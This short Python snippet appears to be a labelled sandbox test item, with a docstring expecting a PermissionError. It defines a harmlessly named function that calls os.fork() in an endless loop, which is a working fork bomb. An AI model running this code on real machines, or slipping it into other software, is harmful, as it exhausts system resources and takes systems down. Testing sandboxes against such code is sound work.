"""Fork without end.

honest: 97
shows: PermissionError
"""


def tent_pieces(depth):
    import os

    while True:
        os.fork()
